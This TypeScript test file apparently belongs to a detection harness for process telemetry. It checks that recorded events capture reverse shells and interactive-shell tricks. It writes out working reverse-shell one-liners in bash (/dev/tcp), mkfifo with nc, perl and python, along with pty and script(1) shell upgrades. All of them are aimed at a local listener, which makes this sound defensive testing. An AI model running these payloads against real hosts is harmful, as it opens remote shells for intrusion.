import { connect } from "node:net";
import type { Attack } from "../harness/attack/attack.ts";
import { describeAttacks } from "../harness/attack/describe.ts";
import { absent, has, orAbsent, someNumber } from "../harness/attack/field.ts";
import { leads, ledByParent } from "../harness/attack/leader.ts";
import { programPath } from "../harness/checkout.ts";

/* A shell in somebody else's hands: over a socket, on a terminal of its own, behind a server. */

const python = "/usr/bin/python3";
/** Major number of the pseudo terminals of /dev/pts. */
const pts = 136;

const onTerminal = { "process.interactive": true, "process.tty.char_device.major": pts };

const attacks: readonly Attack[] = [
  {
    title: "bash -i joined to a TCP socket",
    rule: "an interactive shell whose parent names a network device in its arguments",
    run: async (scene) => {
      const port = await scene.listen("id -u\nexit 0\n");
      const script = `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1; exit 0`;
      await scene.run("bash", ["-c", script]);
      return [
        {
          of: { "process.name": "bash", "process.args": ["bash", "-c", script] },
          fields: { "process.args_count": 3, "process.interactive": false, "process.tty": absent },
          context: {
            "process.session_leader.same_as_process": true,
            "mayfly.executable.package.name": orAbsent("bash"),
          },
        },
        {
          of: { "process.args": ["bash", "-i"] },
          fields: {
            "process.name": "bash",
            "process.executable": /^(\/usr)?\/bin\/bash$/,
            "process.parent.name": "bash",
            "process.parent.args": ["bash", "-c", script],
            "process.parent.command_line": new RegExp(`/dev/tcp/127\\.0\\.0\\.1/${port}`),
            "process.working_directory": scene.folder,
            "user.id": "0",
          },
          context: { "process.session_leader.args": ["bash", "-c", script] },
          end: { "process.exit_code": 0 },
        },
        { of: { "process.name": "id" }, fields: { "process.parent.args": ["bash", "-i"] } },
      ];
    },
  },
  {
    title: "a shell between a named pipe and nc",
    rule: "mkfifo, a shell and a network tool of one parent",
    needs: ["busybox", "mkfifo"],
    run: async (scene) => {
      const port = await scene.listen("id -u\nexit 0\n");
      await scene.shell(`mkfifo back; cat back | sh -i 2>&1 | busybox nc 127.0.0.1 ${port} > back`);
      const parent = { "process.parent.name": /sh$/, "process.parent.args": /mkfifo back/ };
      return [
        { of: { "process.name": "mkfifo" }, fields: { "process.args": ["mkfifo", "back"], ...parent } },
        { of: { "process.args": ["sh", "-i"] }, fields: parent },
        {
          of: { "process.args": has("nc") },
          fields: { "process.args": has("127.0.0.1", String(port)), ...parent },
          siblingOf: { "process.args": ["sh", "-i"] },
        },
      ];
    },
  },
  {
    title: "a reverse shell in perl",
    rule: "an interpreter with a socket in its code, and the shell that its process becomes",
    needs: ["perl"],
    run: async (scene) => {
      const port = await scene.listen("id -u\nexit 0\n");
      const code =
        `use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(${port},inet_aton("127.0.0.1")))||die;` +
        'open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");';
      await scene.run("perl", ["-e", code]);
      return [
        {
          of: { "process.name": "perl" },
          fields: { "process.args": ["perl", "-e", code] },
        },
        {
          of: { "process.args": ["/bin/sh", "-i"] },
          fields: { "process.name": /sh$/, "process.interactive": false },
          context: { "process.previous.args": has("perl", "-e"), "process.previous.executable": "/usr/bin/perl" },
        },
        { of: { "process.name": "id" }, fields: { "process.parent.args": ["/bin/sh", "-i"] } },
      ];
    },
  },
  {
    title: "a reverse shell in python",
    rule: "an interpreter with a socket in its code as the parent of a shell",
    needs: [python],
    run: async (scene) => {
      const port = await scene.listen("id -u\nexit 0\n");
      const code =
        `import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",${port}));` +
        '[os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call(["/bin/sh","-i"])';
      await scene.run(python, ["-Ic", code]);
      return [
        {
          of: { "process.args": ["/bin/sh", "-i"] },
          fields: {
            "process.parent.name": /^python3/,
            "process.parent.args": [python, "-Ic", code],
            "process.parent.executable": /^\/usr\/bin\/python3/,
          },
          context: { "process.session_leader.name": /^python3/ },
        },
      ];
    },
  },
  {
    title: "a terminal for a plain shell, by python's pty",
    rule: "an interpreter that spawns an interactive shell on a new terminal",
    needs: [python],
    run: async (scene) => {
      const code = 'import pty; pty.spawn(["/bin/sh", "-c", "id; exit 0"])';
      await scene.run(python, ["-Ic", code]);
      return [
        {
          of: { "process.args": ["/bin/sh", "-c", "id; exit 0"] },
          fields: { ...onTerminal, "process.parent.args": has(code), "process.parent.interactive": false },
          context: {
            ...leads("session", "group"),
            "process.session_leader.tty.char_device.major": pts,
            "process.session_leader.interactive": true,
          },
        },
      ];
    },
  },
  {
    title: "a terminal for a plain shell, by script",
    rule: "script(1) that runs a shell and keeps no record",
    needs: ["script"],
    run: async (scene) => {
      const args = ["script", "-qc", "bash --norc -c 'id; exit 0'; exit 0", "/dev/null"];
      await scene.run("script", args.slice(1), { env: { SHELL: "/bin/sh" } });
      return [
        {
          of: { "process.name": "script" },
          fields: { "process.args": args, "process.interactive": false },
        },
        {
          of: { "process.name": "bash" },
          fields: { ...onTerminal, "process.args": has("--norc") },
          context: { ...ledByParent("session", "group"), "process.session_leader.args": has("-c") },
        },
      ];
    },
  },
  {
    title: "a shell that a web server starts",
    rule: "a shell or a discovery command of a web server's process, as its user",
    run: async (scene) => {
      const server = scene.copy("/bin/sh", "apache2");
      const args = ["--reuid", "33", "--regid", "33", "--clear-groups", server, "-c", "sh -c 'id; exit 0'; exit 0"];
      await scene.run("setpriv", args);
      return [
        {
          of: { "process.args": ["sh", "-c", "id; exit 0"] },
          fields: {
            "process.parent.name": "apache2",
            "process.parent.executable": server,
            "user.id": "33",
            "group.id": "33",
            "process.real_user.id": "33",
            "process.working_directory": scene.folder,
          },
          context: { "process.parent.user.id": "33", "mayfly.executable.package.name": orAbsent("dash") },
        },
        {
          of: { "process.name": "id" },
          fields: { "process.parent.args": ["sh", "-c", "id; exit 0"], "user.id": "33" },
        },
      ];
    },
    needs: ["setpriv"],
  },
  {
    title: "commands of somebody who came by ssh",
    rule: "what runs in a session that came over the network",
    run: async (scene) => {
      const server = scene.copy(programPath("sshd_like"), "sshd");
      const args = ["sh", "-c", "id; hostname; exit 0"];
      await scene.run(server, args, {
        meanwhile: ({ stdout }) => {
          stdout?.once("data", (text: string) => {
            const port = Number(/port (\d+)/.exec(text)?.[1]);
            connect(port, "127.0.0.1")
              .resume()
              .on("error", () => undefined);
          });
        },
      });
      const session = {
        ...ledByParent("session", "group", "entry"),
        "process.session_leader.args": args,
        "process.entry_leader.args": args,
        "process.entry_leader.name": /sh$/,
        "process.entry_leader.interactive": true,
        "process.entry_leader.user.id": "65534",
        "process.entry_leader.entry_meta.type": "sshd",
        "process.entry_leader.entry_meta.source.ip": "127.0.0.1",
        "process.entry_leader.parent.pid": someNumber,
      };
      const fields = { ...onTerminal, "user.id": "65534", "group.id": "65534", "process.real_user.id": "65534" };
      return [
        {
          of: { "process.args": args },
          fields: { ...fields, "process.parent.name": "sshd", "process.parent.executable": server },
          context: {
            ...session,
            ...leads("session", "group", "entry"),
            "process.parent.user.id": "0",
          },
        },
        {
          of: { "process.name": "id" },
          fields: { ...fields, "process.parent.args": args },
          context: session,
        },
        { of: { "process.name": "hostname" }, fields, context: session },
      ];
    },
  },
];

describeAttacks("shells in somebody else's hands", attacks);
